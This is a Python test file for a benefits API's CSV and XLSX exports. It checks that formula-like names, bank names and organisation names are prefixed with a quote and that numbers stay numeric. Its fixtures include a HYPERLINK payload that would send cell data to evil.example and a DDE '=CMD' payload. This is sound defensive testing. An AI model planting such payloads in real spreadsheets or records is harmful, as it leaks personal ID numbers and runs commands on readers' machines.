"""Formula injection in exports (issue 23, item 2): text that starts like a formula (`=`, `+`, `-`,
`@`, tab, CR) arrives in every CSV and XLSX the API writes with a single quote in front, and numbers
stay numbers. The bank's CSV carries full ID numbers, so a `=HYPERLINK(...)` in a name would send
them elsewhere when the file is opened.

Names an attacker can set go in over the API (`=`, `+`, `-`, `@`); the API strips leading
whitespace, so names starting with a tab or a CR (older rows, rows written by other paths) are put
straight into the database. A control character XLSX cannot hold no longer fails the export."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from app.models.benefits.enrolment import Enrolment
from app.models.core.org import Org
from app.models.core.resident import Resident
from app.spreadsheet_cells import FORMULA_PREFIXES
from tests.api.benefits.benefit_helpers import program_ids, seed_enrolments
from tests.demo_ids import org_ids

pytestmark = pytest.mark.asyncio

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
OVER_THE_API = [PAYLOAD, "+1+2 张三", "-3+4 李四", "@SUM(1,2) 王五"]
IN_THE_DATABASE = ["\t=1+1 赵六", "\r=1+1 孙七"]
DANGEROUS = OVER_THE_API + IN_THE_DATABASE
CONTROL = "社区\x07铃"
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def formula_like(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_PREFIXES)]


def quoted(text: str) -> str:
    return "'" + text


async def test_the_bank_file_neutralises_names_banks_and_communities(api: Any) -> None:
    ids = await org_ids(api)
    programs = await program_ids(api)
    async with api.session() as session:
        enrolled = await seed_enrolments(session, "special_support_death", ids, {"community-a": 7})
        people = list(
            (
                await session.execute(
                    select(Enrolment.beneficiary_id).where(Enrolment.id.in_(enrolled)).order_by(Enrolment.id)
                )
            ).scalars()
        )
    names = dict(zip(people, DANGEROUS, strict=False))
    for resident_id, name in list(names.items())[: len(OVER_THE_API)]:
        renamed = await api.patch("community-a", f"/api/v1/residents/{resident_id}", {"name": name})
        assert renamed.status_code == 200, renamed.text
        assert renamed.json()["name"] == name
    async with api.session() as session:
        for resident_id, name in list(names.items())[len(OVER_THE_API) :]:
            await session.execute(update(Resident).where(Resident.id == resident_id).values(name=name))
        await session.commit()
    plain = people[len(DANGEROUS)]
    account = await api.client.put(
        f"/api/v1/benefit-beneficiaries/{plain}/bank-account",
        json={"bank_name": "=CMD|' /C calc'!A0", "account_number": "6222020200112233445"},
        headers=await api.headers("community-a"),
    )
    assert account.status_code == 200, account.text
    renamed = await api.patch("street", f"/api/v1/orgs/{ids['community-a']}", {"name": "-社区A"})
    assert renamed.status_code == 200, renamed.text

    batch = await api.post(
        "street",
        "/api/v1/payment-batches",
        {"program_id": programs["special_support_death"], "period": "2019-05"},
    )
    assert batch.status_code == 201, batch.text
    for user in ("street", "integration"):  # full ID numbers, and masked ones
        export = await api.get(user, f"/api/v1/payment-batches/{batch.json()['id']}/export.csv")
        assert export.status_code == 200, export.text
        rows = read_csv(export.content)
        header, lines = rows[0], rows[1:]
        assert header[:3] == ["line_id", "name", "id_number"]
        assert len(lines) == 7
        assert formula_like(rows) == []
        by_name = {line[1]: line for line in lines}
        assert set(map(quoted, DANGEROUS)) <= set(by_name)
        assert {line[5] for line in lines} == {"'-社区A"}
        assert by_name[quoted(PAYLOAD)][0].isdigit()
        assert [line[3] for line in lines if line[3]] == ["'=CMD|' /C calc'!A0"]
        # numbers stay numbers: no quote in front of the line id, the fen and the yuan amount
        for line in lines:
            assert line[0].isdigit() and NUMBER.match(line[7]) and NUMBER.match(line[8]), line
            assert int(line[7]) == 45000 and line[8] == "450.00"


async def _org_named(api: Any, code: str, name: str) -> int:
    ids = await org_ids(api)
    body = {"kind": "community", "name": name, "code": code, "parent_id": ids["street"]}
    created = await api.post("street", "/api/v1/orgs", body)
    assert created.status_code == 201, created.text
    return int(created.json()["id"])


@pytest.fixture(scope="module")
async def report_params(api: Any) -> dict[str, int]:
    """The street renamed to the payload, and one community per dangerous name under it."""
    ids = await org_ids(api)
    made = [await _org_named(api, f"5001030031{n:02d}", name) for n, name in enumerate(OVER_THE_API, 50)]
    for n, name in enumerate(IN_THE_DATABASE, 60):
        made.append(await _org_named(api, f"5001030031{n:02d}", f"待改名{n}"))
        async with api.session() as session:
            await session.execute(update(Org).where(Org.id == made[-1]).values(name=name))
            await session.commit()
    # a control character XLSX cannot hold (openpyxl refused it: the export was a 500)
    await _org_named(api, "500103003170", CONTROL)
    renamed = await api.patch("street", f"/api/v1/orgs/{ids['street']}", {"name": PAYLOAD})
    assert renamed.status_code == 200, renamed.text
    return {"org_id": ids["street"], "year": 2019}


async def test_the_annual_report_csv_neutralises_org_names(api: Any, report_params: dict[str, int]) -> None:
    params = report_params
    by_accept = await api.client.get(
        "/api/v1/reports/annual", params=params, headers={**await api.headers("street"), "Accept": "text/csv"}
    )
    by_format = await api.get("street", "/api/v1/reports/annual", params={**params, "format": "csv"})
    for answer in (by_accept, by_format):
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
        rows = read_csv(answer.content)
        assert formula_like(rows) == []
        assert rows[0] == [quoted(PAYLOAD + "2019年度人口和计划生育工作报告")]
        coverage = {row[1]: row for row in rows if row[:1] == [""] and len(row) == 5}
        assert set(map(quoted, DANGEROUS)) <= set(coverage)
        assert CONTROL in coverage  # CSV carries it as it is
        for row in coverage.values():  # screened and target are numbers, not quoted text
            assert row[2].isdigit() and row[3].isdigit(), row


async def test_the_annual_report_xlsx_neutralises_org_names(api: Any, report_params: dict[str, int]) -> None:
    params = report_params
    for answer in (
        await api.get("street", "/api/v1/reports/annual", params={**params, "format": "xlsx"}),
        await api.client.get(
            "/api/v1/reports/annual", params=params, headers={**await api.headers("street"), "Accept": XLSX}
        ),
    ):
        assert answer.status_code == 200 and answer.headers["content-type"].startswith(XLSX)
        workbook = load_workbook(io.BytesIO(answer.content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert [
            c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES)
        ] == []
        title = workbook["概况"]["A1"]
        assert (title.value, title.data_type) == (quoted(PAYLOAD + "2019年度人口和计划生育工作报告"), "s")
        sheet = workbook["覆盖率"]
        coverage = {row[0].value: row for row in sheet.iter_rows(min_row=3)}
        # the XML reader reads a stored CR back as a line feed; the quote is there all the same
        expected = {quoted(name.replace("\r", "\n")) for name in DANGEROUS}
        assert expected <= set(coverage)
        assert "社区\ufffd铃" in coverage
        for name in expected:
            org, screened, target = coverage[name][:3]
            assert org.data_type == "s"
            assert (screened.data_type, target.data_type) == ("n", "n")
            assert isinstance(screened.value, int) and isinstance(target.value, int)
